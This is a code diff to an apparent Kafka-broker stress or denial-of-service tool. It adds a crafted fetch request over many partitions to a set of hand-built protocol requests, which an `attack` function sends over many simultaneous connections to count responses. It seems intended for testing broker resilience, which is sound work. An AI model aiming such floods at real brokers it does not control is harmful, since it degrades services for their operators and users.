@@ -87,6 +87,13 @@ def list_offsets() -> bytes:
     )
 
 
+def fetch_of_many() -> bytes:
+    """From behind the end of partitions that may be there or not; without waiting."""
+    partitions = [struct.pack(">iqi", number, 0, 1) for number in range(MANY)]
+    topic = text(TOPIC.format(0)) + array(partitions)
+    return frame(1, 4, struct.pack(">iiiib", -1, 0, 1, 1, 0) + array([topic]))
+
+
 KINDS: dict[str, Callable[[], bytes]] = {
     "describe_configs": describe_configs,
     "validate_topics": validate_topics,
@@ -94,6 +101,7 @@ KINDS: dict[str, Callable[[], bytes]] = {
     "metadata_of_many": metadata_of_many,
     "metadata_of_all": metadata_of_all,
     "list_offsets": list_offsets,
+    "fetch_of_many": fetch_of_many,
 }
 
 
@@ -154,8 +162,8 @@ def attack(address: tuple[str, int], kind: str, *, connections: int, seconds: fl
     """How many answers came within `seconds`."""
     request, selector = memoryview(KINDS[kind]()), selectors.DefaultSelector()
     ones = [Hostile(address, request) for _ in range(connections)]
-    for one in ones:
-        selector.register(one.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, one)
+    for each in ones:
+        selector.register(each.sock, selectors.EVENT_READ | selectors.EVENT_WRITE, each)
     print("begun", flush=True)
     until = time.monotonic() + seconds
     while time.monotonic() < until:
@@ -174,7 +182,7 @@ def attack(address: tuple[str, int], kind: str, *, connections: int, seconds: fl
             else:
                 events = selectors.EVENT_READ | (selectors.EVENT_WRITE if one.wants_to_send else 0)
                 selector.modify(one.sock, events, one)
-    return sum(one.received for one in ones)
+    return sum(each.received for each in ones)
 
 
 def main() -> None:
